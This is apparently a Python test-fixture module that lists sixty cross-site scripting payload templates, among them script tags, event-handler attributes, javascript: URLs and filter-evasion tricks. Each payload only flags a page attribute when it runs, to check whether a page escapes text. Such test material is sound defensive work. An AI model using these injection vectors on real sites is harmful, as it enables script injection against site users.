"""Sixty texts that would run a script if a page put them anywhere but into text. Payload n marks the page `data-p<n>`
when it runs."""

from __future__ import annotations

_TEMPLATES = [
    "<script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT >",
    "\"><script>{js}</script>",
    "'><script>{js}</script>",
    "</title><script>{js}</script>",
    "</style><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</table></main><script>{js}</script>",
    "--><script>{js}</script><!--",
    "]]><script>{js}</script>",
    "</script><script>{js}</script>",
    "<script type=module>{js}</script>",
    "<script\n>{js}</script\n>",
    "<script/x>{js}</script>",
    "<img src=x onerror={js}>",
    "<img src=x onerror='{js}'",
    "<IMG SRC=x OnErRoR=\"{js}\">",
    "\"><img src=x onerror={js}>",
    "<img/src=x/onerror={js}>",
    "<img src=x\tonerror\t=\t{js}>",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "</svg><svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributeName=x dur=1s>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js} src=x></video>",
    "<video src=x onerror={js}>",
    "<audio src=x onerror={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<button autofocus onfocus={js}>x</button>",
    "<a id=x tabindex=1 autofocus onfocus={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<object data=x onerror={js}>",
    "<object data=\"javascript:{js}\">",
    "<embed src=\"javascript:{js}\">",
    "<iframe src=\"javascript:{js}\"></iframe>",
    "<iframe srcdoc=\"<script>{js}</script>\"></iframe>",
    "<iframe onload={js}></iframe>",
    "<link rel=stylesheet href=x onerror={js}>",
    "<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={js}>x</b>",
    "<style onload={js}></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">",
    "<template><script>{js}</script></template><img src=x onerror={js}>",
    "<scr<script>ipt>{js}</scr</script>ipt><img src=x onerror={js}>",
    "<form><button formaction=\"javascript:{js}\" autofocus onfocus={js}>x",
    "<xss tabindex=1 autofocus onfocus={js}>",
    "<div popover id=q onbeforetoggle={js}><img src=x onerror={js}>",
    "\" autofocus tabindex=1 onfocus=\"{js}",
    "x\u202e<img src=x onerror={js}>\u202c",
    "\x1b]0;x\x07<img src=x onerror={js}>",
    "{{{{ ''.__class__.__mro__ }}}}<img src=x onerror={js}>",
    "{{% raw %}}<script>{js}</script>{{% endraw %}}",
    "&lt;script&gt;{js}&lt;/script&gt;<script>{js}</script>",
]  # fmt: skip


def payload(number: int) -> str:
    return _TEMPLATES[number].format(js=f"top.document.documentElement.dataset.p{number}=1")


PAYLOADS = [payload(number) for number in range(len(_TEMPLATES))]
